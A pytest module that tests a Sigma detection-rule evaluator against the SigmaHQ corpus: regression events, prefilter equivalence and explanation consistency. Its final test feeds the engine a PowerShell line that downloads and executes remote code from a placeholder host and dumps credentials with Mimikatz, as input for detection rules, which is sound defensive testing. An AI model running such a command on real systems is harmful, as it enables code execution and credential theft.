"""The whole SigmaHQ corpus: regression events, prefilter equivalence, explanation consistency.

Needs ``shared/corpus/sigmahq`` beside the repository root; skipped with a reason otherwise.
The corpus Evaluator is built once per module (about 6 s).
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml
from sigma.types import SpecialChars

from rules.compile import (
    BoolMatcher,
    CIDRMatcher,
    CompareMatcher,
    CompiledRule,
    DetectionNode,
    ExistsMatcher,
    ExpansionMatcher,
    FieldRefMatcher,
    ItemNode,
    Matcher,
    NullMatcher,
    NumberMatcher,
    StringMatcher,
)
from rules.evaluate import ConditionResult, Evaluator, IdentifierResult
from rules.evaluate import polarity_identifiers as _polarity_identifiers
from rules.events import Event, event_from_mapping, load_events_file
from rules.parse import parse_rule as load_rule

SHARED = Path(__file__).resolve().parents[2].parent / "shared"
CORPUS = SHARED / "corpus" / "sigmahq"
REGRESSION = CORPUS / "regression_data"
pytestmark = pytest.mark.corpus
NO_CORPUS = f"SigmaHQ corpus not found at {CORPUS} (expected shared/ beside the repo root)"


def _regression_cases() -> list[Any]:
    if not REGRESSION.is_dir():
        return [pytest.param(None, None, marks=pytest.mark.skip(reason=NO_CORPUS), id="absent")]
    cases = []
    for info in sorted(REGRESSION.rglob("info.yml")):
        meta = yaml.load(info.read_text(), Loader=yaml.CSafeLoader)
        rule_id = meta["rule_metadata"][0]["id"]
        for path in sorted(info.parent.iterdir()):
            if path.suffix in (".json", ".evtx"):
                cases.append(pytest.param(rule_id, path, id=str(path.relative_to(REGRESSION))))
    return cases


@dataclass
class Corpus:
    evaluator: Evaluator
    regression_events: list[Event]


@pytest.fixture(scope="module")
def corpus() -> Corpus:
    if not CORPUS.is_dir():
        pytest.skip(NO_CORPUS)
    rules = []
    for path in sorted(CORPUS.glob("rules*/**/*.yml")):
        rules.append(load_rule(path.read_text(encoding="utf-8"), str(path)))
    evaluator = Evaluator(rules, fingerprint="corpus")
    events: list[Event] = []
    for path in sorted(REGRESSION.rglob("*.json")) + sorted(REGRESSION.rglob("*.evtx")):
        events.extend(load_events_file(str(path)))
    return Corpus(evaluator, events)


def test_corpus_compiles_with_only_expand_rules_unsupported(corpus: Corpus) -> None:
    ev = corpus.evaluator
    assert len(ev) >= 3700
    unsupported = ev.unsupported
    assert unsupported, "the corpus has |expand rules: they must be reported"
    for u in unsupported:
        assert u.reasons and all("expand" in r for r in u.reasons), (u.rule_id, u.reasons)


@pytest.mark.parametrize(("rule_id", "path"), _regression_cases())
def test_regression_file_matches_its_rule_with_logsource_scoping(
    corpus: Corpus, rule_id: str, path: Path
) -> None:
    evaluator = corpus.evaluator
    assert evaluator.rule(rule_id) is not None, f"rule {rule_id} not in corpus"
    events = load_events_file(str(path))
    assert events, "no events in file"
    matched = [
        e.index for e in events if rule_id in evaluator.evaluate(e, explain=False).matched_ids
    ]
    assert matched, f"no event of {path.name} matched {rule_id}"
    # And the explanation of a matching event names the rule's deciding predicates.
    result = evaluator.evaluate(events[matched[0]], rule_ids=[rule_id])
    (match,) = result.matches
    assert any(c.value for c in match.conditions)
    assert any(i.value and i.predicates for i in match.identifiers)


# --------------------------------------------------------------------------------------------
# Synthetic events built from each rule's own values


def _sample(m: Matcher, field: str | None, fields: dict[str, Any]) -> Any:
    """A value the matcher accepts (or None when it cannot be synthesised)."""
    if isinstance(m, ExpansionMatcher):
        return _sample(m.variants[-1], field, fields)
    if isinstance(m, StringMatcher):
        text = "".join(
            p if isinstance(p, str) else ("X" if p is SpecialChars.WILDCARD_SINGLE else "")
            for p in m.pattern
        )
        return text if m.cased else text.upper()  # casefolded matching must still hit
    if isinstance(m, NumberMatcher):
        return m.number
    if isinstance(m, BoolMatcher):
        return m.value
    if isinstance(m, NullMatcher):
        return None
    if isinstance(m, ExistsMatcher):
        return "present" if m.exists else None
    if isinstance(m, CompareMatcher):
        return m.number + 1
    if isinstance(m, CIDRMatcher):
        return str(m.network.network_address)
    if isinstance(m, FieldRefMatcher):
        fields.setdefault(m.other, "same-value")
        return fields[m.other]
    return None


def _add(fields: dict[str, Any], name: str, value: Any) -> None:
    if name in fields and fields[name] != value:
        current = fields[name]
        fields[name] = [*(current if isinstance(current, list) else [current]), value]
    else:
        fields[name] = value


def _walk_first_alternative(node: DetectionNode | ItemNode) -> Iterator[ItemNode]:
    if isinstance(node, ItemNode):
        yield node
    elif node.all:
        for child in node.children:
            yield from _walk_first_alternative(child)
    else:
        yield from _walk_first_alternative(node.children[0])


def synthetic_events(rule: CompiledRule) -> list[dict[str, Any]]:
    """One event with every positive identifier's first alternative satisfied, plus one per
    positive identifier alone."""
    positives = [
        name for cond in rule.conditions for name, pos in _polarity_identifiers(cond) if pos
    ]
    out = []
    merged: dict[str, Any] = {}
    for name in dict.fromkeys(positives):
        alone: dict[str, Any] = {}
        for item in _walk_first_alternative(rule.identifiers[name]):
            if item.negated:
                continue
            matchers = item.matchers if item.all else item.matchers[:1]
            for m in matchers:
                for target in (merged, alone):
                    value = _sample(m, item.field, target)
                    if isinstance(m, ExistsMatcher) and not m.exists:
                        continue
                    _add(target, item.field or f"Keyword{len(target)}", value)
        out.append(alone)
    out.insert(0, merged)
    return out


BATCH = 12


@pytest.fixture(scope="module")
def synthetic(corpus: Corpus) -> list[Event]:
    """Synthetic events of rules of the same logsource merged in batches of BATCH rules
    (colliding fields become arrays, and arrays match if any element matches)."""
    by_logsource: dict[tuple[str, str, str], list[CompiledRule]] = {}
    for rule in corpus.evaluator.rules:
        if rule.evaluable:
            by_logsource.setdefault(rule.logsource, []).append(rule)
    events = []
    for rules in by_logsource.values():
        for start in range(0, len(rules), BATCH):
            merged: dict[str, Any] = {}
            for rule in rules[start : start + BATCH]:
                for name, value in synthetic_events(rule)[0].items():
                    _add(merged, name, value)
            events.append(event_from_mapping(merged))
    return events


def test_every_rule_matching_its_own_synthetic_event_is_a_prefilter_candidate(
    corpus: Corpus,
) -> None:
    """Each rule against the events built from its own values (all identifiers together, and
    each positive identifier alone): when it matches, the prefilter must let it through."""
    ev = corpus.evaluator
    evaluable = [(i, r) for i, r in enumerate(ev.rules) if r.evaluable]
    self_matches = 0
    missed = []
    for i, rule in evaluable:
        for n, fields in enumerate(synthetic_events(rule)):
            event = event_from_mapping(fields)
            if rule.match(event):
                self_matches += n == 0
                if i not in ev.candidates(event, all_rules=True):
                    missed.append((rule.id, fields))
    assert not missed, missed[:5]
    # Not vacuous: nearly every rule matches the event built from its own values.
    assert self_matches / len(evaluable) > 0.9, (self_matches, len(evaluable))


def test_prefilter_gives_identical_results_to_full_evaluation(
    corpus: Corpus, synthetic: list[Event]
) -> None:
    """For every corpus rule, over all regression events and the batched synthetic events:
    prefiltered matching returns exactly what full evaluation (all rules, no scoping) does."""
    ev = corpus.evaluator
    evaluable = [(i, r) for i, r in enumerate(ev.rules) if r.evaluable]
    events = [*corpus.regression_events, *synthetic]
    matched_pairs = 0
    matched_rules: set[str] = set()
    disagreements = []
    for event in events:
        full = [(i, r.id) for i, r in evaluable if r.match(event)]
        candidates = ev.candidates(event, all_rules=True)
        disagreements.extend((rid, event.fields) for i, rid in full if i not in candidates)
        assert ev.match_ids(event, all_rules=True, prefilter=True) == [rid for _, rid in full]
        matched_pairs += len(full)
        matched_rules.update(rid for _, rid in full)
    assert not disagreements, disagreements[:5]
    assert len(events) > 500 and matched_pairs > len(evaluable)
    assert len(matched_rules) / len(evaluable) > 0.8, len(matched_rules)


def _assert_traced_values_are_the_fast_values(
    ev: Evaluator,
    rule_id: str,
    traced: list[IdentifierResult],
    conditions: list[ConditionResult],
    event: Event,
) -> None:
    """The explainer walks the detection tree itself: each identifier it traced must have
    the value of the identifier's fast closure, and each stage the value of its conjunct."""
    rule = ev.rule(rule_id)
    assert rule is not None
    fast = {name: node.fast(event) for name, node in rule.identifiers.items()}
    assert {i.name: i.value for i in traced} == fast, rule_id
    for result, condition in zip(conditions, rule.conditions, strict=True):
        assert result.value == condition.holds(fast), rule_id
        assert [s.value for s in result.stages] == [s.holds(fast) for s in condition.stages]


def test_explanations_agree_with_the_fast_path(corpus: Corpus) -> None:
    ev = corpus.evaluator
    for event in corpus.regression_events:
        result = ev.evaluate(event, all_rules=True, near_miss_limit=None)
        assert result.matched_ids == ev.match_ids(event, all_rules=True)
        for match in result.matches:
            assert any(c.value for c in match.conditions), match.rule_id
            _assert_traced_values_are_the_fast_values(
                ev, match.rule_id, match.identifiers, match.conditions, event
            )
            for ident in match.identifiers:
                for pred in ident.predicates:
                    if pred.span is not None and isinstance(pred.event_value, str):
                        start, end = pred.span
                        assert 0 <= start <= end <= len(pred.event_value)
        for sup in result.suppressed:
            assert sup.filters and sup.rule_id not in result.matched_ids
            assert not any(c.value for c in sup.conditions), sup.rule_id
            _assert_traced_values_are_the_fast_values(
                ev, sup.rule_id, sup.identifiers, sup.conditions, event
            )
        for near in result.near_misses:
            assert near.rule_id not in result.matched_ids and 0 < near.score <= 1
        result.to_dict()


def test_scoping_reduces_rules_and_keeps_regression_matches(corpus: Corpus) -> None:
    ev = corpus.evaluator
    event = corpus.regression_events[0]
    scoped = ev.evaluate(event, explain=False)
    unscoped = ev.evaluate(event, explain=False, all_rules=True)
    assert scoped.rules_in_scope < unscoped.rules_in_scope
    assert set(scoped.matched_ids) <= set(unscoped.matched_ids)
    assert scoped.rules_evaluated <= scoped.rules_in_scope


def test_scriptblock_against_ps_script_rules(corpus: Corpus) -> None:
    result = corpus.evaluator.evaluate(
        "IEX (New-Object Net.WebClient).DownloadString('http://x'); Invoke-Mimikatz -DumpCreds"
    )
    assert result.matches and all(m.logsource == "windows/ps_script" for m in result.matches)
    assert 0 < result.rules_evaluated < result.rules_in_scope < 400
